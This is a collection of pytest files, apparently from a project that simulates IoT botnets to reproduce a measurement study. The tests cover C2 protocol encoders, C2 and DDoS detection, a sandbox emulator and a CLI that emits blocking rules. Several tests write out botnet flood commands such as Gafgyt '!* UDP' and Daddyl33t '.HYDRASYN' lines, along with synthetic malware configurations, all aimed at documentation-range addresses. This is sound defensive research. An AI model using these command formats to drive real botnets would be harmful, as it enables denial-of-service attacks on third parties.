    assert manifest["run"]["transport"] == "socket"
    dist = manifest["extra"]["dist"]
    assert dist["units"] == UNIT_COUNT
    assert {p["unit"] for p in dist["placements"]} == set(range(UNIT_COUNT))
    per_worker = dist["per_worker"]
    assert len(per_worker) == 2
    assert sum(w["units_completed"] for w in per_worker.values()) \
        >= UNIT_COUNT
    # both daemons generated the world at most once; later units reuse it
    assert sum(s.worlds.hits for s in workers) >= UNIT_COUNT - 2


def test_socket_transport_matches_serial_under_mild_faults(workers,
                                                           serial_mild):
    datasets, manifest = _socket_study(_peers(workers), MILD)
    assert not datasets.failed_shards
    assert dataset_digest(datasets) == serial_mild
    # same (seed, scale) as the previous run: placement sees warm workers
    dist = manifest["extra"]["dist"]
    assert sum(w["warm_placements"]
               for w in dist["per_worker"].values()) >= 1


def test_socket_counter_totals_match_serial():
    """Remote ShardResults carry their telemetry snapshots over the
    wire, so the merged counters equal the serial run's — dedup'd
    record counters included.

    Runs against real subprocess daemons: in-process worker threads
    share this process's capture accumulators with the concurrently
    probing parent, which double-counts world-global rows — a test
    artifact a deployed (per-process) worker cannot exhibit.
    """
    def totals(**kwargs):
        telemetry = create_telemetry()
        world = generate_world(seed=SEED, scale=SCALE)
        run_study(world, telemetry=telemetry, **kwargs)
        return {
            (family.name, tuple(sorted(labels.items()))): child.value
            for family in telemetry.metrics.families()
            if family.kind == "counter"
            for labels, child in family.series()
        }

    procs, peers = _spawn_fleet(2)
    try:
        assert totals() == totals(transport="socket", peers=peers,
                                  unit_count=UNIT_COUNT)
    finally:
        _stop_fleet(procs)


def test_straggling_unit_is_stolen(workers, serial_straggler):
    datasets, manifest = _socket_study(
        _peers(workers), STRAGGLER, unit_count=4,
        transport_options={"min_steal_seconds": 0.3, "steal_factor": 0.5})
    assert not datasets.failed_shards
    assert dataset_digest(datasets) == serial_straggler
    dist = manifest["extra"]["dist"]
    assert dist["steals"] >= 1
    assert any(p["steal"] for p in dist["placements"])


def test_unreachable_workers_fail_the_units_not_the_run():
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    dead_port = probe.getsockname()[1]
    probe.close()                           # nobody listens here now
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(
        world, transport="socket", peers=[f"127.0.0.1:{dead_port}"],
        unit_count=3, shard_timeout=10.0, max_redispatch=0)
    assert sorted(datasets.failed_shards) == [0, 1, 2]
    assert datasets.profiles == []          # no unit ever ran


def test_socket_study_survives_a_sigkilled_worker(serial_straggler):
    procs, peers = _spawn_fleet(2)
    try:
        # the straggler unit hangs 6s: the study is guaranteed to still
        # be mid-wave when the axe falls
        axe = threading.Timer(2.0, procs[0].kill)
        axe.start()
        try:
            datasets, manifest = _socket_study(peers, STRAGGLER,
                                               unit_count=4)
        finally:
            axe.cancel()
        assert procs[0].wait(timeout=10) != 0   # it really died
        assert not datasets.failed_shards
        assert dataset_digest(datasets) == serial_straggler
        dist = manifest["extra"]["dist"]
        assert len(dist["lost_workers"]) >= 1
    finally:
        _stop_fleet(procs)


# -- transport contract edges -------------------------------------------------


def test_local_transport_rejects_double_wave():
    from repro.dist.plan import TaskSpec

    spec = TaskSpec(seed=SEED, scale=SCALE, config=PipelineConfig(),
                    shard_count=2)
    transport = LocalTransport(spec, workers=2, shard_timeout=30.0)
    try:
        transport.start_wave([0, 1], 0)
        with pytest.raises(RuntimeError):
            transport.start_wave([0, 1], 0)
        with pytest.raises(RuntimeError):
            SocketTransport(spec, ["127.0.0.1:1"]).collect_wave({})
    finally:
        transport.abort_wave()
        transport.close()
