"""Tests for the Gafgyt and Daddyl33t text dialects and the IRC dialect."""

import pytest
from hypothesis import given, strategies as st

from repro.botnet.protocols import daddyl33t, gafgyt, irc
from repro.botnet.protocols.base import AttackCommand, ProtocolError, method_to_type
from repro.netsim.addresses import int_to_ip, ip_to_int

TARGET = ip_to_int("192.0.2.50")


class TestGafgyt:
    def test_udp_roundtrip(self):
        command = AttackCommand("udp", TARGET, 80, 60)
        line = gafgyt.encode_attack(command)
        assert line == b"!* UDP 192.0.2.50 80 60\n"
        assert gafgyt.extract_commands(line) == [command]

    @given(
        method=st.sampled_from(["udp", "std", "vse"]),
        ip=st.integers(min_value=1, max_value=0xFFFFFFFE),
        port=st.integers(min_value=0, max_value=65535),
        duration=st.integers(min_value=1, max_value=3600),
    )
    def test_roundtrip_property(self, method, ip, port, duration):
        command = AttackCommand(method, ip, port, duration)
        assert gafgyt.extract_commands(gafgyt.encode_attack(command)) == [command]

    def test_non_attack_broadcasts_ignored(self):
        stream = b"!* SCANNER ON\n!* KILLATTK\nPONG\n"
        assert gafgyt.extract_commands(stream) == []

    def test_mixed_stream(self):
        command = AttackCommand("std", TARGET, 9307, 30)
        stream = b"PONG\n!* SCANNER ON\n" + gafgyt.encode_attack(command)
        assert gafgyt.extract_commands(stream) == [command]

    def test_malformed_attack_skipped(self):
        assert gafgyt.extract_commands(b"!* UDP nonsense\n") == []
        assert gafgyt.extract_commands(b"!* UDP 1.2.3.4 80\n") == []

    def test_unencodable_method(self):
        with pytest.raises(ProtocolError):
            gafgyt.encode_attack(AttackCommand("hydrasyn", TARGET, 80, 10))

    def test_checkin_detection(self):
        assert gafgyt.is_checkin(gafgyt.CHECKIN)
        assert gafgyt.is_checkin(b"PING\n")
        assert not gafgyt.is_checkin(b"\x00\x00\x00\x01")

    def test_decode_attack_line_rejects_non_broadcast(self):
        with pytest.raises(ProtocolError):
            gafgyt.decode_attack_line("UDP 1.2.3.4 80 60")


class TestDaddyl33t:
    def test_hydrasyn_roundtrip(self):
        command = AttackCommand("hydrasyn", TARGET, 4567, 90)
        line = daddyl33t.encode_attack(command)
        assert line == b".HYDRASYN 192.0.2.50 4567 90\r\n"
        assert daddyl33t.extract_commands(line) == [command]

    @given(
        method=st.sampled_from(["udpraw", "hydrasyn", "tls", "blacknurse", "nfo"]),
        ip=st.integers(min_value=1, max_value=0xFFFFFFFE),
        port=st.integers(min_value=0, max_value=65535),
        duration=st.integers(min_value=1, max_value=3600),
    )
    def test_roundtrip_property(self, method, ip, port, duration):
        command = AttackCommand(method, ip, port, duration)
        assert daddyl33t.extract_commands(daddyl33t.encode_attack(command)) == [command]

    def test_nurse_verb_maps_to_blacknurse(self):
        stream = b".NURSE 192.0.2.50 0 60\r\n"
        (command,) = daddyl33t.extract_commands(stream)
        assert command.method == "blacknurse"
        assert command.attack_type == "BLACKNURSE"

    def test_nfov6_verb(self):
        stream = b".NFOV6 192.0.2.50 238 60\r\n"
        (command,) = daddyl33t.extract_commands(stream)
        assert command.method == "nfo"

    def test_unknown_verb_skipped(self):
        assert daddyl33t.extract_commands(b".FROBNICATE 1.2.3.4 80 60\r\n") == []

    def test_checkin_detection(self):
        assert daddyl33t.is_checkin(daddyl33t.LOGIN)
        assert not daddyl33t.is_checkin(b"BUILD MIPS\n")


class TestIrc:
    def test_register_burst(self):
        burst = irc.encode_register("MIPS|abcdef")
        assert b"NICK MIPS|abcdef\r\n" in burst
        assert b"USER " in burst and b"JOIN #iot" in burst

    def test_register_rejects_bad_nick(self):
        with pytest.raises(ProtocolError):
            irc.encode_register("has space")
        with pytest.raises(ProtocolError):
            irc.encode_register("")

    def test_attack_roundtrip(self):
        command = AttackCommand("udp", TARGET, 53, 60)
        stream = irc.encode_welcome() + irc.encode_attack(command)
        assert irc.extract_commands(stream) == [command]

    def test_only_udp_supported(self):
        with pytest.raises(ProtocolError):
            irc.encode_attack(AttackCommand("syn", TARGET, 80, 60))

    def test_non_attack_privmsg_ignored(self):
        stream = b":op PRIVMSG #iot :hello world\r\n"
        assert irc.extract_commands(stream) == []

    def test_ping_pong(self):
        assert irc.encode_ping("tok") == b"PING :tok\r\n"
        assert irc.encode_pong("tok") == b"PONG :tok\r\n"

    def test_random_nick_shape(self):
        import random

        nick = irc.random_nick(random.Random(0))
        assert nick.startswith("MIPS|") and len(nick) == 11

    def test_checkin_detection(self):
        assert irc.is_checkin(b"NICK MIPS|abc\r\n")
        assert not irc.is_checkin(b"login daddy l33t\r\n")


class TestMethodTypeMapping:
    @pytest.mark.parametrize(
        "method,expected",
        [
            ("udp", "UDP Flood"), ("udpraw", "UDP Flood"),
            ("syn", "SYN Flood"), ("hydrasyn", "SYN Flood"),
            ("tls", "TLS"), ("blacknurse", "BLACKNURSE"),
            ("stomp", "STOMP"), ("vse", "VSE"),
            ("std", "STD"), ("nfo", "NFO"),
        ],
    )
    def test_mapping(self, method, expected):
        assert method_to_type(method) == expected

    def test_unknown_method(self):
        with pytest.raises(ValueError):
            method_to_type("teardrop")

    def test_command_validation(self):
        with pytest.raises(ValueError):
            AttackCommand("udp", TARGET, 80, 0)
        with pytest.raises(ValueError):
            AttackCommand("udp", TARGET, 99999, 10)
        with pytest.raises(ValueError):
            AttackCommand("nosuch", TARGET, 80, 10)

    def test_ip_rendering_in_gafgyt_lines(self):
        command = AttackCommand("udp", ip_to_int("10.0.0.1"), 80, 5)
        assert int_to_ip(command.target_ip) == "10.0.0.1"
