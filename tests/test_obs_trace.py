"""Chrome trace-event export: format validity and per-shard tracks."""

import json

from repro.core.study import run_study
from repro.obs import (
    Tracer,
    chrome_trace,
    create_telemetry,
    to_trace_events,
    write_chrome_trace,
)
from repro.world import SMOKE_SCALE, generate_world


def _tree_with_shards():
    """A parent trace with two grafted shard subtrees, hand-built."""
    return [
        {"name": "study.pipeline", "wall_start": 10.0, "wall_seconds": 5.0,
         "sim_start": 0.0, "sim_seconds": 3600.0,
         "children": [
             {"name": "shard[0]", "wall_start": 10.5, "wall_seconds": 4.0,
              "attributes": {"shard": 0, "attempt": 0},
              "children": [
                  {"name": "pipeline.run_day", "wall_start": 10.6,
                   "wall_seconds": 1.0},
              ]},
             {"name": "shard[1]", "wall_start": 10.7, "wall_seconds": 4.2},
         ]},
    ]


def test_trace_events_structure_and_tracks():
    events = to_trace_events(_tree_with_shards())
    metadata = [e for e in events if e["ph"] == "M"]
    spans = [e for e in events if e["ph"] == "X"]
    assert {m["tid"]: m["args"]["name"] for m in metadata} == \
        {0: "main", 1: "shard[0]", 2: "shard[1]"}
    by_name = {e["name"]: e for e in spans}
    assert by_name["study.pipeline"]["tid"] == 0
    assert by_name["shard[0]"]["tid"] == 1
    # descendants inherit their shard root's track
    assert by_name["pipeline.run_day"]["tid"] == 1
    assert by_name["shard[1]"]["tid"] == 2
    # timestamps normalize to the earliest span and convert to int µs
    assert by_name["study.pipeline"]["ts"] == 0
    assert by_name["shard[0]"]["ts"] == 500_000
    assert by_name["shard[0]"]["dur"] == 4_000_000
    assert all(isinstance(e["ts"], int) and e["ts"] >= 0 for e in spans)
    assert all(isinstance(e["dur"], int) and e["dur"] >= 0 for e in spans)


def test_chrome_trace_document_shape():
    document = chrome_trace(_tree_with_shards())
    assert set(document) == {"traceEvents", "displayTimeUnit"}
    assert document["displayTimeUnit"] == "ms"


def test_chrome_trace_accepts_live_tracer():
    tracer = Tracer()
    with tracer.span("a"):
        with tracer.span("b"):
            pass
    document = chrome_trace(tracer)
    names = [e["name"] for e in document["traceEvents"] if e["ph"] == "X"]
    assert sorted(names) == ["a", "b"]


def test_empty_tracer_yields_empty_trace(tmp_path):
    path = str(tmp_path / "trace.json")
    assert write_chrome_trace(path, Tracer()) == 0
    assert json.load(open(path))["traceEvents"] == []


def test_parallel_study_trace_has_spans_per_shard(tmp_path):
    workers = 4
    telemetry = create_telemetry()
    world = generate_world(seed=11, scale=SMOKE_SCALE)
    run_study(world, telemetry=telemetry, workers=workers)
    paths = telemetry.write(str(tmp_path))
    document = json.load(open(paths["trace"]))
    spans = [e for e in document["traceEvents"] if e["ph"] == "X"]
    metadata = [e for e in document["traceEvents"] if e["ph"] == "M"]
    tracks = {m["args"]["name"] for m in metadata}
    assert {f"shard[{i}]" for i in range(workers)} <= tracks
    for shard in range(workers):
        on_track = [e for e in spans if e["tid"] == shard + 1]
        assert len(on_track) >= 1, f"shard {shard} has no spans"
    # every event is well-formed for Perfetto: required keys, µs ints
    for event in spans:
        assert set(event) >= {"name", "ph", "ts", "dur", "pid", "tid"}
        assert isinstance(event["ts"], int) and event["ts"] >= 0
        assert isinstance(event["dur"], int) and event["dur"] >= 0
