"""Tests for C2 detection, DDoS detection, and statistics helpers."""

import random

import pytest

from repro.analysis.c2_detect import (
    classify_flow,
    detect_c2_flows,
    detect_p2p,
    resolve_endpoint_name,
)
from repro.analysis.ddos_detect import (
    ProfiledCommand,
    RateBurst,
    attribute_burst,
    profile_stream,
    rate_bursts,
    target_in_command_bytes,
    verify_flooding,
)
from repro.analysis.stats import (
    count_by,
    day_number,
    empirical_cdf,
    fraction_at_most,
    mean,
    quantile,
    share_by,
    top_n,
    week_number,
)
from repro.botnet.protocols import daddyl33t, gafgyt, mirai
from repro.botnet.protocols.base import AttackCommand
from repro.netsim.addresses import ip_to_int
from repro.netsim.capture import Capture
from repro.netsim.flows import FlowTable
from repro.netsim.packet import TcpFlags, tcp_packet, udp_packet

BOT = ip_to_int("100.64.13.37")
C2 = ip_to_int("203.0.113.10")
BENIGN = ip_to_int("198.51.100.80")
TARGET = ip_to_int("192.0.2.50")


def conversation(client_payloads, server_payloads, dst=C2, dport=666, t0=0.0):
    """Interleaved PSH/ACK exchange as the fake adapter records it."""
    packets = []
    t = t0
    for client, server in zip(client_payloads, server_payloads):
        if client:
            packets.append(tcp_packet(BOT, dst, 40000, dport,
                                      TcpFlags.PSH | TcpFlags.ACK, client,
                                      timestamp=t))
            t += 0.01
        if server:
            packets.append(tcp_packet(dst, BOT, dport, 40000,
                                      TcpFlags.PSH | TcpFlags.ACK, server,
                                      timestamp=t))
            t += 0.01
    return packets


class TestC2Detection:
    def test_gafgyt_checkin_flow_detected(self):
        capture = Capture(conversation(
            [b"BUILD MIPS\n", b"PING\n"], [b"!* SCANNER ON\n", b"PONG\n"]
        ))
        candidates = detect_c2_flows(capture, BOT)
        assert candidates
        assert candidates[0].host == C2
        assert candidates[0].dialect == "gafgyt"
        assert candidates[0].confidence == 1.0

    def test_benign_http_flow_not_detected(self):
        capture = Capture(conversation(
            [b"GET / HTTP/1.0\r\n\r\n"], [b"HTTP/1.0 200 OK\r\n\r\nhello"],
            dst=BENIGN, dport=80,
        ))
        assert detect_c2_flows(capture, BOT) == []

    def test_signature_beats_behavioral(self):
        packets = conversation(
            [b"BUILD MIPS\n", b"PING\n", b"PING\n"],
            [b"ok\n", b"PONG\n", b"PONG\n"],
        )
        packets += conversation(
            [b"hello\n", b"are\n", b"you\n", b"there\n"],
            [b"yes\n", b"i\n", b"am\n", b"here\n"],
            dst=BENIGN, dport=7547, t0=10.0,
        )
        candidates = detect_c2_flows(Capture(packets), BOT)
        assert candidates[0].host == C2
        assert candidates[0].confidence > candidates[-1].confidence or \
            len(candidates) == 1

    def test_mirai_binary_checkin_detected(self):
        capture = Capture(conversation(
            [mirai.encode_checkin(b"bot1")], [mirai.HANDSHAKE],
        ))
        (candidate,) = detect_c2_flows(capture, BOT)
        assert candidate.dialect == "mirai"

    def test_flow_without_payload_ignored(self):
        capture = Capture([tcp_packet(BOT, C2, 1, 2, TcpFlags.SYN)])
        assert detect_c2_flows(capture, BOT) == []

    def test_classify_flow_udp_none(self):
        table = FlowTable()
        flow = table.observe(udp_packet(BOT, C2, 1, 2, b"x"))
        assert classify_flow(flow) is None

    def test_detect_p2p_majority(self):
        from repro.botnet.protocols import p2p

        rng = random.Random(0)
        dht = p2p.encode_find_node(p2p.node_id(rng), p2p.node_id(rng))
        assert detect_p2p([dht, dht, b"junk"])
        assert not detect_p2p([b"junk", b"junk", dht])
        assert not detect_p2p([])

    def test_resolve_endpoint_prefers_domain(self):
        from repro.analysis.c2_detect import C2Candidate

        candidate = C2Candidate(host=0xC6120005, port=23, dialect="mirai",
                                confidence=1.0)
        name = resolve_endpoint_name(candidate, {"cnc.example": 0xC6120005})
        assert name == "cnc.example"
        bare = resolve_endpoint_name(candidate, {})
        assert bare == "198.18.0.5"


class TestDdosDetection:
    def command(self, method="udp", target=TARGET):
        return AttackCommand(method, target, 80, 60)

    def test_profile_stream_all_three_dialects(self):
        streams = (
            mirai.encode_attack(self.command("udp")),
            gafgyt.encode_attack(self.command("std")),
            daddyl33t.encode_attack(self.command("hydrasyn")),
        )
        methods = {
            p.command.method for stream in streams for p in profile_stream(stream)
        }
        assert methods == {"udp", "std", "hydrasyn"}

    def test_profile_stream_text_dialects_coexist(self):
        # text dialects are line-based, so a mixed text stream still parses
        stream = (
            gafgyt.encode_attack(self.command("std"))
            + daddyl33t.encode_attack(self.command("hydrasyn"))
        )
        methods = {p.command.method for p in profile_stream(stream)}
        assert methods == {"std", "hydrasyn"}

    def test_profile_stream_dedupes(self):
        stream = gafgyt.encode_attack(self.command()) * 2
        assert len(profile_stream(stream)) == 1

    def test_rate_burst_found(self):
        packets = [
            udp_packet(BOT, TARGET, 4000, 80, b"\x00", timestamp=5.0 + i * 0.001)
            for i in range(300)
        ]
        bursts = rate_bursts(Capture(packets), BOT, c2_hosts={C2})
        assert len(bursts) == 1
        assert bursts[0].target == TARGET
        assert bursts[0].rate > 100

    def test_c2_traffic_not_a_burst(self):
        packets = [
            udp_packet(BOT, C2, 4000, 80, b"\x00", timestamp=5.0 + i * 0.001)
            for i in range(300)
        ]
        assert rate_bursts(Capture(packets), BOT, c2_hosts={C2}) == []

    def test_slow_traffic_not_a_burst(self):
        packets = [
            udp_packet(BOT, TARGET, 4000, 80, b"\x00", timestamp=i * 1.0)
            for i in range(50)
        ]
        assert rate_bursts(Capture(packets), BOT, c2_hosts=set()) == []

    def test_verify_flooding(self):
        packets = [
            udp_packet(BOT, TARGET, 4000, 80, b"\x00", timestamp=i * 0.001)
            for i in range(100)
        ]
        assert verify_flooding(self.command(), Capture(packets), BOT)
        assert not verify_flooding(
            self.command(target=BENIGN), Capture(packets), BOT
        )

    def test_target_in_command_bytes_text_and_binary(self):
        text_command = gafgyt.encode_attack(self.command())
        assert target_in_command_bytes(TARGET, text_command)
        binary_command = mirai.encode_attack(self.command())
        assert target_in_command_bytes(TARGET, binary_command)
        assert not target_in_command_bytes(BENIGN, text_command)

    def test_attribute_burst_last_command_wins(self):
        first = ProfiledCommand("gafgyt", self.command("udp"))
        second = ProfiledCommand("gafgyt", self.command("std"))
        burst = RateBurst(target=TARGET, start=0.0, packets=500, rate=500.0)
        assert attribute_burst(burst, [first, second]) is second
        other = RateBurst(target=BENIGN, start=0.0, packets=500, rate=500.0)
        assert attribute_burst(other, [first, second]) is None


class TestStats:
    def test_empirical_cdf(self):
        points = empirical_cdf([1, 1, 2, 4])
        assert [(p.value, p.fraction) for p in points] == [
            (1, 0.5), (2, 0.75), (4, 1.0)
        ]
        assert empirical_cdf([]) == []

    def test_fraction_at_most(self):
        assert fraction_at_most([1, 2, 3, 4], 2) == 0.5
        with pytest.raises(ValueError):
            fraction_at_most([], 1)

    def test_quantile(self):
        values = list(range(1, 102))
        assert quantile(values, 0.0) == 1
        assert quantile(values, 1.0) == 101
        assert quantile(values, 0.5) == 51
        with pytest.raises(ValueError):
            quantile(values, 1.5)

    def test_mean(self):
        assert mean([1, 2, 3]) == 2.0

    def test_count_and_share(self):
        items = ["a", "b", "a", "a"]
        assert count_by(items, lambda x: x) == {"a": 3, "b": 1}
        assert share_by(items, lambda x: x) == {"a": 0.75, "b": 0.25}
        assert share_by([], lambda x: x) == {}

    def test_top_n_stable(self):
        counts = {"x": 5, "y": 5, "z": 1}
        assert top_n(counts, 2) == [("x", 5), ("y", 5)]

    def test_week_and_day_numbers(self):
        assert week_number(86400.0 * 7, 0.0) == 1
        assert day_number(86400.0 * 3 + 5, 0.0) == 3
        with pytest.raises(ValueError):
            week_number(0.0, 100.0)
