"""Tests for the emulation layer."""

import random

import pytest

from repro.binary.builder import build_chaff, build_sample
from repro.binary.config import BotConfig
from repro.sandbox.qemu import (
    ActivationError,
    EmulationError,
    MipsEmulator,
)


def sample(seed=0):
    config = BotConfig(
        family="mirai", c2_host="203.0.113.9", c2_port=23,
        scan_ports=[23], exploit_ids=[0], loader_name="8UsA.sh",
        downloader="203.0.113.9:80",
    )
    return build_sample(config, random.Random(seed))


@pytest.fixture
def emulator():
    return MipsEmulator(random.Random(0))


class TestLoading:
    def test_loads_and_recovers_config(self, emulator):
        mal = sample()
        sha256, config = emulator.load(mal.data)
        assert sha256 == mal.sha256
        assert config == mal.config  # through the XOR obfuscation

    @pytest.mark.parametrize("kind", ["arm", "x86", "junk", "truncated"])
    def test_rejects_chaff(self, emulator, kind):
        with pytest.raises(EmulationError):
            emulator.load(build_chaff(random.Random(0), kind))

    def test_rejects_missing_config_section(self, emulator):
        from repro.binary.elf import ElfImage

        image = ElfImage()
        image.add_section(".text", b"\x00" * 64)
        with pytest.raises(EmulationError, match="behavior"):
            emulator.load(image.encode())

    def test_rejects_corrupt_config(self, emulator):
        from repro.binary.elf import ElfImage

        image = ElfImage()
        image.add_section(".config", b"\x00XXXX-not-a-config")
        with pytest.raises(EmulationError, match="config"):
            emulator.load(image.encode())


class TestActivation:
    def test_rate_near_90_percent(self, emulator):
        activated = sum(
            1 for seed in range(300) if emulator.activates(sample(seed).sha256)
        )
        assert 0.84 < activated / 300 < 0.96

    def test_deterministic_per_sample(self, emulator):
        sha = sample(5).sha256
        assert emulator.activates(sha) == emulator.activates(sha)

    def test_run_returns_process(self, emulator):
        for seed in range(20):
            mal = sample(seed)
            if emulator.activates(mal.sha256):
                process = emulator.run(mal.data, bot_ip=0x0A000002)
                assert process.config == mal.config
                assert process.bot.family.name == "mirai"
                return
        pytest.fail("no activating sample in 20 seeds")

    def test_run_raises_on_evasion(self, emulator):
        for seed in range(40):
            mal = sample(seed)
            if not emulator.activates(mal.sha256):
                with pytest.raises(ActivationError):
                    emulator.run(mal.data, bot_ip=0x0A000002)
                return
        pytest.fail("no evading sample in 40 seeds")

    def test_full_activation_rate_possible(self):
        emulator = MipsEmulator(random.Random(0), activation_rate=1.0)
        assert all(emulator.activates(sample(s).sha256) for s in range(30))

    def test_bad_rate_rejected(self):
        with pytest.raises(ValueError):
            MipsEmulator(random.Random(0), activation_rate=0.0)
        with pytest.raises(ValueError):
            MipsEmulator(random.Random(0), activation_rate=1.5)
