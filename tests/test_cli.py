"""Tests for the command-line interface."""

import io

import pytest

from repro.cli import main


def run_cli(*argv):
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


class TestStudyCommand:
    def test_study_prints_table1(self):
        code, text = run_cli("--scale", "smoke", "--seed", "3", "study")
        assert code == 0
        assert "Table 1" in text
        assert "D-Samples" in text and "D-DDOS" in text
        assert "dead-on-day-0" in text

    def test_seed_changes_output(self):
        _c, a = run_cli("--scale", "smoke", "--seed", "3", "study")
        _c, b = run_cli("--scale", "smoke", "--seed", "4", "study")
        assert a != b

    def test_seed_reproducible(self):
        _c, a = run_cli("--scale", "smoke", "--seed", "3", "study")
        _c, b = run_cli("--scale", "smoke", "--seed", "3", "study")
        assert a == b


class TestReportCommand:
    def test_default_report(self):
        code, text = run_cli("--scale", "smoke", "report")
        assert code == 0
        assert "Table 1" in text

    def test_multiple_items(self):
        code, text = run_cli("--scale", "smoke", "report",
                             "--what", "table3", "fig4", "fig11")
        assert code == 0
        assert "Table 3" in text
        assert "Figure 4" in text and "#" in text
        assert "Figure 11" in text

    def test_rejects_unknown_item(self):
        with pytest.raises(SystemExit):
            run_cli("report", "--what", "fig99")


class TestRulesCommand:
    def test_all_rules(self):
        code, text = run_cli("--scale", "smoke", "rules")
        assert code == 0
        assert "-A OUTPUT -d" in text
        assert "alert tcp" in text
        assert "# c2 coverage: 100%" in text

    def test_single_technology(self):
        code, text = run_cli("--scale", "smoke", "rules", "--tech", "snort")
        assert code == 0
        assert "alert" in text
        assert "-A OUTPUT" not in text


class TestPcapCommand:
    def test_exports_readable_pcaps(self, tmp_path):
        code, text = run_cli("--scale", "smoke", "pcap",
                             "--out", str(tmp_path), "--limit", "3")
        assert code == 0
        pcaps = list(tmp_path.glob("*.pcap"))
        assert len(pcaps) == 3
        from repro.netsim.capture import Capture

        for path in pcaps:
            assert len(Capture.load(str(path))) > 0


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            run_cli()

    def test_unknown_scale(self):
        with pytest.raises(SystemExit):
            run_cli("--scale", "galactic", "study")
