"""Tests for the command-line interface."""

import io

import pytest

from repro.cli import main


def run_cli(*argv):
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


class TestStudyCommand:
    def test_study_prints_table1(self):
        code, text = run_cli("--scale", "smoke", "--seed", "3", "study")
        assert code == 0
        assert "Table 1" in text
        assert "D-Samples" in text and "D-DDOS" in text
        assert "dead-on-day-0" in text

    def test_seed_changes_output(self):
        _c, a = run_cli("--scale", "smoke", "--seed", "3", "study")
        _c, b = run_cli("--scale", "smoke", "--seed", "4", "study")
        assert a != b

    def test_seed_reproducible(self):
        _c, a = run_cli("--scale", "smoke", "--seed", "3", "study")
        _c, b = run_cli("--scale", "smoke", "--seed", "3", "study")
        assert a == b


class TestReportCommand:
    def test_default_report(self):
        code, text = run_cli("--scale", "smoke", "report")
        assert code == 0
        assert "Table 1" in text

    def test_multiple_items(self):
        code, text = run_cli("--scale", "smoke", "report",
                             "--what", "table3", "fig4", "fig11")
        assert code == 0
        assert "Table 3" in text
        assert "Figure 4" in text and "#" in text
        assert "Figure 11" in text

    def test_rejects_unknown_item(self):
        with pytest.raises(SystemExit):
            run_cli("report", "--what", "fig99")


class TestRulesCommand:
    def test_all_rules(self):
        code, text = run_cli("--scale", "smoke", "rules")
        assert code == 0
        assert "-A OUTPUT -d" in text
        assert "alert tcp" in text
        assert "# c2 coverage: 100%" in text

    def test_single_technology(self):
        code, text = run_cli("--scale", "smoke", "rules", "--tech", "snort")
        assert code == 0
        assert "alert" in text
        assert "-A OUTPUT" not in text


class TestPcapCommand:
    def test_exports_readable_pcaps(self, tmp_path):
        code, text = run_cli("--scale", "smoke", "pcap",
                             "--out", str(tmp_path), "--limit", "3")
        assert code == 0
        pcaps = list(tmp_path.glob("*.pcap"))
        assert len(pcaps) == 3
        from repro.netsim.capture import Capture

        for path in pcaps:
            assert len(Capture.load(str(path))) > 0


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            run_cli()

    def test_unknown_scale(self):
        with pytest.raises(SystemExit):
            run_cli("--scale", "galactic", "study")


class TestTelemetryFlag:
    def test_study_writes_snapshot_events_and_prom(self, tmp_path):
        import json

        target = tmp_path / "telemetry"
        code, text = run_cli("--scale", "smoke", "--seed", "3",
                             "study", "--telemetry", str(target))
        assert code == 0
        assert f"# telemetry written to {target}" in text
        snapshot = json.loads((target / "snapshot.json").read_text())
        metrics = snapshot["metrics"]
        for counter in ("samples_collected", "samples_verified",
                        "samples_activated", "c2_liveness_probes"):
            assert metrics[counter]["series"], counter
        assert snapshot["spans"]["pipeline.run_day"]["count"] > 0
        assert snapshot["spans"]["sandbox.analyze"]["wall_seconds"] >= 0
        lines = (target / "events.jsonl").read_text().splitlines()
        assert lines and all(json.loads(line)["event"] for line in lines)
        prom = (target / "metrics.prom").read_text()
        assert "# TYPE samples_collected counter" in prom

    def test_study_output_unchanged_without_flag(self):
        _c, plain = run_cli("--scale", "smoke", "--seed", "3", "study")
        assert "telemetry" not in plain

    def test_report_accepts_flag(self, tmp_path):
        target = tmp_path / "t"
        code, _text = run_cli("--scale", "smoke", "report",
                              "--telemetry", str(target))
        assert code == 0
        assert (target / "snapshot.json").exists()


class TestStatsCommand:
    def test_renders_stage_and_counter_tables(self):
        code, text = run_cli("--scale", "smoke", "--seed", "3", "stats")
        assert code == 0
        assert "Pipeline stages" in text
        assert "pipeline.run_day" in text
        assert "sandbox.analyze" in text
        assert "Counters" in text
        assert "samples_collected" in text
        assert "c2_liveness_probes{outcome=live}" in text

    def test_renders_top_spans_and_histogram_quantiles(self):
        code, text = run_cli("--scale", "smoke", "--seed", "3", "stats")
        assert code == 0
        assert "Top spans" in text
        assert "Histograms" in text
        assert "p50" in text and "p95" in text and "p99" in text
        assert "feed_latency_seconds" in text

    def test_honours_workers_flag(self):
        code, serial = run_cli("--scale", "smoke", "--seed", "3", "stats")
        code2, parallel = run_cli("--scale", "smoke", "--seed", "3",
                                  "stats", "--workers", "2")
        assert code == 0 and code2 == 0
        # the merged parallel run reports the same counter totals; its
        # stage table additionally carries the shard roots
        assert "shard[0]" in parallel and "shard[1]" in parallel
        counters = lambda text: [l for l in text.splitlines()
                                 if l.startswith(("samples_", "c2_", "ddos_"))]
        assert counters(parallel) == counters(serial)


class TestObsErrorHandling:
    """Bad artifact paths must produce a clear message, not a traceback."""

    def test_missing_directory(self):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("obs", "top", "/no/such/artifact/dir")
        assert "not a directory" in str(excinfo.value)
        assert "--telemetry" in str(excinfo.value)

    def test_empty_directory(self, tmp_path):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("obs", "top", str(tmp_path))
        assert "is empty" in str(excinfo.value)

    def test_corrupt_snapshot(self, tmp_path):
        (tmp_path / "snapshot.json").write_text("{not json")
        with pytest.raises(SystemExit) as excinfo:
            run_cli("obs", "top", str(tmp_path))
        assert "corrupt or incomplete artifact" in str(excinfo.value)

    def test_diff_checks_both_directories(self, tmp_path):
        good = tmp_path / "a"
        good.mkdir()
        (good / "snapshot.json").write_text("{}")
        with pytest.raises(SystemExit) as excinfo:
            run_cli("obs", "diff", str(good), str(tmp_path / "missing"))
        assert "not a directory" in str(excinfo.value)


class TestSamplesReport:
    def test_renders_per_c2_sample_table(self):
        code, text = run_cli("--scale", "smoke", "report",
                             "--what", "samples")
        assert code == 0
        assert "Samples per C2" in text
        assert "sha256" in text and "family" in text


